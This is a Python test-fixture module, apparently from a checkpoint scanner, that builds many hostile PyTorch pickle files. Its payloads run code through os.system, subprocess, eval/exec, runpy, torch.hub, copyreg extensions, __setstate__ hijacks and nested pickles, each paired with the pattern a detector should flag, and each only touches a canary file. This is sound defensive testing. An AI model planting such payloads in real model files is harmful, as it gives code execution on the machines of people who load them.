"""Files whose pickle executes code, in every way that we know.

The payload is always a value beside honest weights, which a reader might ignore.
"""

import io
from collections.abc import Callable
from pathlib import Path

import torch

from tests.hostile import assembler as asm
from tests.hostile.assembler import (
    build,
    call,
    made_dict,
    made_list,
    made_tuple,
    new,
    plain,
    python,
    reference,
    stack_reference,
    touch,
)
from tests.hostile.hostile_file import HostileFile

Payload = Callable[[Path], bytes]  # from the canary to opcodes

SYSTEM = reference("os", "system")
EVAL = reference("builtins", "eval")
EXEC = reference("builtins", "exec")
MAP = reference("builtins", "map")
TENSOR = reference("torch", "Tensor")
NAMESPACE = reference("argparse", "Namespace")
IN_PLACE_OF_SLOTS = plain(None)


def value(
    name: str,
    tries: str,
    reason: str,
    payload: Payload,
    *,
    executes: bool = True,
    protocol: int = asm.PROTOCOL,
) -> HostileFile:
    def write(path: Path) -> None:
        asm.write_zip(path, asm.state(extra=payload(asm.canary_of(path))), protocol=protocol)

    return HostileFile(f"{name}.pt", tries, reason, write, executes)


def source_to(module: str, name: str, *before: bytes) -> HostileFile:
    """Python source given to a function, after other arguments."""
    return value(
        f"call-{module}.{name}",
        f"calls {module}.{name} with Python source",
        rf"{module}\.{name}",
        lambda canary: call(reference(module, name), *before, python(canary)),
    )


def command_to(module: str, name: str) -> HostileFile:
    return value(
        f"call-{module}.{name}",
        f"calls {module}.{name} with a shell command",
        rf"{module}\.{name}",
        lambda canary: call(reference(module, name), touch(canary)),
    )


def arguments_to(module: str, name: str) -> HostileFile:
    return value(
        f"call-{module}.{name}",
        f"calls {module}.{name} with a list of arguments",
        rf"{module}\.{name}",
        lambda canary: call(reference(module, name), plain(["touch", str(canary)])),
    )


def slots(**attributes: bytes) -> bytes:
    """A state whose second half BUILD sets attribute by attribute, on any object."""
    return made_tuple(IN_PLACE_OF_SLOTS, made_dict(attributes))


def imported(module: str) -> bytes:
    return call(reference("importlib", "import_module"), plain(module))


def getter(name: str, made: bytes) -> bytes:
    return call(call(reference("operator", "attrgetter"), plain(name)), made)


def system_call(canary: Path) -> bytes:
    return call(SYSTEM, touch(canary))


def inner_pickle(canary: Path) -> bytes:
    return plain(asm.pickled(system_call(canary)))


class Evaluates:
    """An object that is pickled as a call of eval."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, (self.source,)


def inner_torch_file(canary: Path) -> bytes:
    file = io.BytesIO()
    torch.save(Evaluates(f"open({str(canary)!r}, 'w').close()"), file)
    return plain(file.getvalue())


def by_extension(code: bytes, module: str, name: str) -> Payload:
    entry = plain(module), plain(name), plain(int.from_bytes(code[1:], "little"))
    registered = call(reference("copyreg", "add_extension"), *entry)
    return lambda canary: registered + b"0" + call(code, touch(canary))


def lazily(outer: bytes) -> Payload:
    # The calls happen when a harmless constructor iterates over its argument.
    return lambda canary: call(outer, call(MAP, EVAL, made_list(python(canary))))


def class_with_hook(canary: Path) -> bytes:
    # type.__new__ passes the keywords of NEWOBJ_EX on to __init_subclass__ of the base.
    meta = reference("builtins", "type")
    base = new(meta, plain("A"), plain(()), made_dict({"__init_subclass__": SYSTEM}))
    arguments = made_tuple(plain("B"), made_tuple(base), plain({}))
    return meta + arguments + made_dict({"command": touch(canary)}) + b"\x92"


def state_set_by_system(canary: Path) -> bytes:
    armed = build(new(NAMESPACE), made_dict({"__setstate__": SYSTEM}))
    return build(armed, touch(canary))


def state_of_class_set_by_system(canary: Path) -> bytes:
    cls = reference("string", "Formatter")
    return build(cls, slots(__setstate__=SYSTEM)) + b"0" + build(new(cls), touch(canary))


def code_of_function_replaced(canary: Path) -> bytes:
    function = reference("torch._utils", "_rebuild_parameter")
    code = getter("__code__", reference("torch.jit.unsupported_tensor_ops", "execWrapper"))
    return (
        build(function, slots(__code__=code))
        + b"0"
        + call(function, python(canary), plain({}), plain({}))
    )


def script_beside(canary: Path) -> bytes:
    script = canary.with_name(f"{canary.name}.py")
    script.write_text(f"open({str(canary)!r}, 'w').close()\n")
    return call(reference("runpy", "run_path"), plain(str(script)))


def hub_beside(canary: Path) -> bytes:
    hub = canary.with_name(f"{canary.name}.hub")
    hub.mkdir()
    (hub / "hubconf.py").write_text(f"open({str(canary)!r}, 'w').close()\ndef model(): pass\n")
    return call(reference("torch.hub", "_load_local"), plain(str(hub)), plain("model"))


def module_beside(canary: Path) -> bytes:
    name = "a_module_beside_the_checkpoint"
    code = f"open({str(canary)!r}, 'w').close()\nclass Net: pass\n"
    canary.with_name(f"{name}.py").write_text(code)
    append = call(reference("operator", "methodcaller"), plain("append"), plain(str(canary.parent)))
    return call(append, getter("path", imported("sys"))) + b"0" + new(reference(name, "Net"))


FILES = [
    value("call-os.system", "calls os.system", r"os\.system", system_call),
    command_to("posix", "system"),
    command_to("os", "popen"),
    command_to("subprocess", "getoutput"),
    command_to("torch.utils.collect_env", "run"),
    arguments_to("subprocess", "call"),
    arguments_to("subprocess", "Popen"),
    arguments_to("pty", "spawn"),
    source_to("builtins", "eval"),
    source_to("builtins", "exec"),
    source_to("cProfile", "run"),
    source_to("timeit", "timeit", plain("pass")),
    source_to("numpy.f2py.crackfortran", "myeval"),
    value(
        "python-2-name",
        "calls eval under the name it had in Python 2",
        r"(builtins|__builtin__)\.eval",
        lambda canary: call(reference("__builtin__", "eval"), python(canary)),
        protocol=2,
    ),
    value("run-script", "runs a script beside it", r"runpy\.run_path", script_beside),
    value("torch-hub", "has torch.hub load a folder", r"torch\.hub\._load_local", hub_beside),
    value(
        "module-beside",
        "imports a module that lies beside it",
        r"operator\.\w+|importlib",
        module_beside,
    ),
    value(
        "interpreter",
        "runs code in an interpreter it makes",
        r"operator\.methodcaller|code\.InteractiveInterpreter",
        lambda canary: call(
            call(reference("operator", "methodcaller"), plain("runsource"), python(canary)),
            call(reference("code", "InteractiveInterpreter")),
        ),
    ),
    value(
        "getattr",
        "fetches os.system with getattr",
        r"builtins\.getattr|importlib",
        lambda canary: call(
            call(reference("builtins", "getattr"), imported("os"), plain("system")), touch(canary)
        ),
    ),
    value(
        "attrgetter",
        "fetches os.system with __import__ and attrgetter",
        r"operator\.attrgetter|__import__",
        lambda canary: call(
            getter("system", call(reference("builtins", "__import__"), plain("os"))), touch(canary)
        ),
    ),
    value(
        "resolve-name",
        "fetches os.system with pkgutil.resolve_name",
        r"pkgutil\.resolve_name",
        lambda canary: call(
            call(reference("pkgutil", "resolve_name"), plain("os:system")), touch(canary)
        ),
    ),
    value(
        "partial",
        "calls a functools.partial of os.system",
        r"os\.system|functools\.partial",
        lambda canary: call(call(reference("functools", "partial"), SYSTEM, touch(canary))),
    ),
    value(
        "functools-reduce",
        "has functools.reduce call exec",
        r"builtins\.exec|functools\.reduce",
        lambda canary: call(
            reference("functools", "reduce"), EXEC, made_list(python(canary), plain({}))
        ),
    ),
    value(
        "ordered-dict-of-map",
        "makes an OrderedDict walk over map(eval, …)",
        r"builtins\.(map|eval)",
        lazily(reference("collections", "OrderedDict")),
    ),
    value(
        "set-of-map",
        "makes a set walk over map(eval, …)",
        r"builtins\.(map|eval)",
        lazily(reference("builtins", "set")),
    ),
    value(
        "size-of-map",
        "makes a torch.Size walk over map(eval, …)",
        r"builtins\.(map|eval)",
        lazily(reference("torch", "Size")),
    ),
    value(
        "inst",
        "calls os.system by INST",
        r"os\.system|INST",
        lambda canary: b"(" + touch(canary) + b"ios\nsystem\n",
    ),
    value(
        "obj",
        "calls os.system by OBJ",
        r"os\.system|OBJ",
        lambda canary: b"(" + SYSTEM + touch(canary) + b"o",
    ),
    *(
        value(
            f"extension-{len(code) - 1}",
            f"registers {module}.{name} as an extension and calls it by that",
            r"copyreg\.add_extension|EXT",
            by_extension(code, module, name),
        )
        for code, module, name in [
            (b"\x82\xf1", "os", "system"),
            (b"\x83\xf1\xf1", "posix", "system"),
            (b"\x84\xf1\xf1\xf1\0", "subprocess", "getoutput"),
        ]
    ),
    value(
        "extension-of-others",
        "calls an extension that the process may have",
        r"EXT1",
        lambda canary: call(b"\x82\xf2", touch(canary)),
        executes=False,
    ),
    value(
        "stack-global",
        "calls os.system by STACK_GLOBAL",
        r"os\.system",
        lambda canary: call(stack_reference("os", "system"), touch(canary)),
    ),
    value(
        "stack-global-dots",
        "walks from torch to os.system by STACK_GLOBAL",
        r"torch\.os\.system",
        lambda canary: call(stack_reference("torch", "os.system"), touch(canary)),
    ),
    value(
        "global-dots",
        "walks from torch._utils to the built-in functions by GLOBAL",
        r"torch\._utils\.copyreg",
        lambda canary: call(
            call(reference("torch._utils", "copyreg.__builtins__.get"), plain("eval")),
            python(canary),
        ),
    ),
    value(
        "global-main",
        "walks from __main__ to eval",
        r"__builtins__\.eval",
        lambda canary: call(reference("__main__", "__builtins__.eval"), python(canary)),
    ),
    value(
        "global-odd-names",
        "names modules with slashes, spaces, NULs and nothing",
        r"name",
        lambda canary: made_list(
            *(
                stack_reference(module, name)
                for module, name in [("../os", "system"), (" os", "\0"), ("os\n", "x\ny"), ("", "")]
            )
        ),
        executes=False,
    ),
    value(
        "global-not-text",
        "names a module by a number",
        r"STACK_GLOBAL|name",
        lambda canary: plain(3) + plain(4) + b"\x93",
        executes=False,
    ),
    value(
        "build-setstate",
        "gives an object os.system as its __setstate__ and builds it again",
        r"os\.system|__setstate__",
        state_set_by_system,
    ),
    value(
        "build-on-class",
        "gives a class os.system as its __setstate__",
        r"os\.system|BUILD|string",
        state_of_class_set_by_system,
    ),
    value(
        "build-on-function",
        "replaces the code of a function of torch",
        r"operator\.attrgetter|BUILD",
        code_of_function_replaced,
    ),
    value(
        "build-defaults",
        "changes the defaults of torch's tensor rebuilder",
        r"BUILD",
        lambda canary: build(
            reference("torch._utils", "_rebuild_tensor_v2"), slots(__defaults__=plain((1, 2, 3)))
        ),
        executes=False,
    ),
    value(
        "newobj-ex",
        "makes a class whose base runs os.system, by NEWOBJ_EX",
        r"os\.system|builtins\.type|NEWOBJ_EX",
        class_with_hook,
    ),
    value(
        "reconstructor",
        "runs the __init__ of subprocess.Popen through copyreg._reconstructor",
        r"subprocess\.Popen",
        lambda canary: call(
            reference("copyreg", "_reconstructor"),
            reference("subprocess", "Popen"),
            reference("subprocess", "Popen"),
            plain(["touch", str(canary)]),
        ),
    ),
    *(
        value(
            f"nested-{module}",
            f"unpickles bytes with {module}.loads",
            rf"{module}\.loads",
            lambda canary, module=module: call(reference(module, "loads"), inner_pickle(canary)),  # type: ignore[misc]
        )
        for module in ("pickle", "_pickle")
    ),
    value(
        "nested-storage",
        "loads bytes with torch.storage._load_from_bytes",
        r"torch\.storage\._load_from_bytes",
        lambda canary: call(
            reference("torch.storage", "_load_from_bytes"), inner_torch_file(canary)
        ),
    ),
    value(
        "nested-torch-load",
        "loads bytes with torch's own loader",
        r"torch\.serialization\._legacy_load|importlib",
        lambda canary: call(
            reference("torch.serialization", "_legacy_load"),
            call(reference("io", "BytesIO"), inner_pickle(canary)),
            plain(None),
            imported("pickle"),
        ),
    ),
    value(
        "numpy-runstring",
        "runs code with numpy.testing",
        r"numpy\.testing\._private\.utils\.runstring",
        lambda canary: call(
            reference("numpy.testing._private.utils", "runstring"), python(canary), plain({})
        ),
    ),
    value(
        "torch-tensor-subclass",
        "gives torch's rebuilder of tensor subclasses os.system to call",
        r"os\.system",
        lambda canary: call(
            reference("torch._tensor", "_rebuild_from_type_v2"),
            SYSTEM,
            TENSOR,
            made_tuple(touch(canary)),
            plain({}),
        ),
    ),
    value(
        "torch-jit",
        "runs code with torch.jit",
        r"torch\.jit\.unsupported_tensor_ops\.execWrapper",
        lambda canary: call(
            reference("torch.jit.unsupported_tensor_ops", "execWrapper"),
            python(canary),
            plain({}),
            plain({}),
        ),
    ),
    value(
        "call-dropped",
        "calls os.system and drops the result",
        r"os\.system",
        lambda canary: system_call(canary) + b"0" + plain("harmless"),
    ),
    value(
        "call-as-key",
        "calls os.system for the key of a dictionary",
        r"os\.system",
        lambda canary: b"}" + system_call(canary) + plain(1) + b"s",
    ),
    value(
        "hook-of-a-module",
        "leaves eval among the hooks of a module",
        r"builtins\.eval",
        lambda canary: asm.module(extra={"_state_dict_hooks": made_dict({"a": EVAL})}),
        executes=False,
    ),
]

# Attributes of objects are harmless to a reader that does not create objects.
HARMLESS = [
    value(
        "build-class",
        "gives an object another class",
        "",
        lambda canary: build(new(NAMESPACE), slots(__class__=TENSOR)),
        executes=False,
    ),
    value(
        "build-dict",
        "replaces the attributes of an object at one stroke",
        "",
        lambda canary: build(new(NAMESPACE), slots(__dict__=plain({"x": 1}))),
        executes=False,
    ),
]
